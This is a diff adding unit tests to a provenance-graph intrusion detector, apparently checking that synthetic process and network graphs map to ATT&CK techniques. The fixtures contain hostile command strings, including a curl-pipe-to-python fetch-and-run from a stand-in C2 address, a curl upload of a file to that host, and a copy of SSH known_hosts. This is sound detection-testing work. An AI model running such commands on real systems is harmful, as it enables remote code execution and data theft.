@@ -2,6 +2,8 @@ from __future__ import annotations
 
 from collections.abc import Collection
 
+import msgspec
+
 from provarmor.graph.records import Edge, Node, NodeKind
 from provarmor.investigation.knowledge import GraphView, find_techniques
 
@@ -114,3 +116,68 @@ def test_archive_sent_out_scan_and_ssh_with_key() -> None:
 def test_privilege_gain_through_sudo() -> None:
     shell, sudo = process(12, "/bin/sh", user="33"), process(13, "/usr/bin/sudo", user="0")
     assert "T1548.003" in techniques_of([shell, sudo], [edge(1, shell, sudo, "fork", 1)])
+
+
+def test_python_fed_a_script_on_standard_input_or_from_a_hidden_directory() -> None:
+    piped = process(20, "/usr/bin/python3", "/usr/bin/python3 -")
+    hidden = process(21, "/usr/bin/python3", "python3 /home/u/.cache/.x/run.py")
+    plain = process(22, "/usr/bin/python3", "python3 /home/u/project/manage.py test")
+    assert "T1059.006" in techniques_of([piped], [])
+    assert "T1059.006" in techniques_of([hidden], [])
+    assert "T1059.006" not in techniques_of([plain], [])
+
+
+def test_web_and_dns_protocols() -> None:
+    agent = process(23, "/usr/bin/python3", "/usr/bin/python3 -")
+    c2, resolver = endpoint("10.6.6.6", 8443), endpoint("10.0.0.53", 53)
+    web = [edge(1, agent, c2, "connect", 1)]
+    assert "T1071.001" in techniques_of([agent, c2], web)
+    few = Edge(id=2, src=agent.id, dst=resolver.id, action="send", first_ts=2, last_ts=2, count=2)
+    assert "T1071.004" not in techniques_of([agent, resolver], [few])
+    many = Edge(id=3, src=agent.id, dst=resolver.id, action="send", first_ts=2, last_ts=9, count=40)
+    assert "T1071.004" in techniques_of([agent, resolver], [many])
+    dig = process(24, "/usr/bin/dig", "dig x.example")
+    assert "T1071.004" in techniques_of([dig, resolver], [edge(4, dig, resolver, "send", 3)])
+
+
+def test_remote_system_discovery() -> None:
+    reader, known = (
+        process(25, "/usr/bin/cp", "cp ~/.ssh/known_hosts /tmp/k"),
+        file("/home/admin/.ssh/known_hosts"),
+    )
+    assert "T1018" in techniques_of([reader, known], [edge(1, known, reader, "read", 1)])
+    pinger = process(26, "/usr/bin/ping", "ping -c 1 10.0.0.7")
+    assert "T1018" in techniques_of([pinger], [])
+    sweeper = process(27, "/usr/bin/python3", "python3 scan.py")
+    hosts = [endpoint(f"10.7.7.{i}", 22) for i in range(3)]
+    edges = [edge(i, sweeper, h, "connect", i) for i, h in enumerate(hosts, 1)]
+    assert "T1018" in techniques_of([sweeper, *hosts], edges)
+
+
+def test_upload_to_the_host_the_code_came_from_is_exfiltration_over_c2() -> None:
+    shell = process(28, "/bin/sh", "sh -c curl -s http://10.8.8.8:8443/a | python3 -")
+    fetch = msgspec.structs.replace(
+        process(29, "/usr/bin/curl", "curl -s http://10.8.8.8:8443/a"), parent=shell.id
+    )
+    agent = process(30, "/usr/bin/python3", "/usr/bin/python3 -")
+    upload = process(31, "/usr/bin/curl", "curl -s --data-binary @/tmp/r http://10.8.8.8:8443/u")
+    c2 = endpoint("10.8.8.8", 8443)
+    edges = [
+        edge(1, shell, fetch, "fork", 1),
+        edge(2, shell, agent, "fork", 1),
+        edge(3, fetch, c2, "connect", 2),
+        edge(4, upload, c2, "connect", 9),
+    ]
+    assert "T1041" in techniques_of([shell, fetch, agent, upload, c2], edges)
+    elsewhere = endpoint("10.9.9.9", 8443)
+    other = [*edges[:3], edge(5, upload, elsewhere, "connect", 9)]
+    assert "T1041" not in techniques_of([shell, fetch, agent, upload, c2, elsewhere], other)
+
+
+def test_interpreter_running_a_script_the_attack_wrote() -> None:
+    unzip, script = process(32, "/usr/bin/unzip", "unzip s.zip"), file("/tmp/.p/scan.py")
+    python = process(33, "/usr/bin/python3", "python3 scan.py 10.0.0.0/24")
+    edges = [edge(1, unzip, script, "write", 1), edge(2, script, python, "open", 2)]
+    assert "T1059.006" in techniques_of([unzip, script, python], edges)
+    # a script nobody in the story wrote is not evidence
+    assert "T1059.006" not in techniques_of([script, python], edges[1:])
